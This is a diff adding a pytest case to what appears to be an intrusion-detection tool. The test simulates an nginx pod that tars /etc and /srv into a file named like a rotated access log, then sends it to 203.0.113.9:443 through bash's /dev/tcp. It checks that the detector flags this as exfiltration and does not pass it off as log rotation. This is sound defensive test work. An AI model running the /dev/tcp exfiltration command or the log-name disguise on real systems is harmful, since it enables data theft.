@@ -339,3 +339,24 @@ def test_a_download_renamed_to_an_archive_name_is_not_an_archive_made(
     path.write_text(_eslogger_rename("/bin/mv", "/tmp/stage.bin", "/tmp/stage.zip"))
     [made] = detect(capsys, "--assume-host", "mbp", str(path))
     assert made["finding_info"]["analytic"]["uid"] == "tw-archive-created"  # type: ignore[index]
+
+
+def test_a_log_named_archive_sent_by_dev_tcp_is_not_held_back_as_log_rotation(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    records = fleet.Day()
+    writer = fleet.Tetragon(records)
+    pod = fleet.Pod.make(
+        "web", "nginx", "Deployment", "docker.io/library/nginx:1.27",
+        "node-2", "10.2.4.4", "nginx-6b9f7d8c4-ab2cd",
+    )  # fmt: skip
+    t = fleet.START
+    writer.exec(pod, 20, "/bin/tar", "czf /var/log/nginx/access.log.1.gz /etc /srv", t)
+    bash = (21, "/bin/bash", "-c 'cat /var/log/nginx/access.log.1.gz > /dev/tcp/203.0.113.9/443'")
+    writer.exec(pod, *bash, t + 5)
+    writer.flow(pod, (*bash, t + 5), t + 6, "203.0.113.9", 443, 9_000_000, 3)
+    path = tmp_path / "devtcp.jsonl"
+    path.write_bytes(records.tetragon_bytes())
+    [alert] = detect(capsys, str(path))
+    assert alert["severity_id"] >= 3
+    assert "not held back as log rotation" in json.dumps(alert)
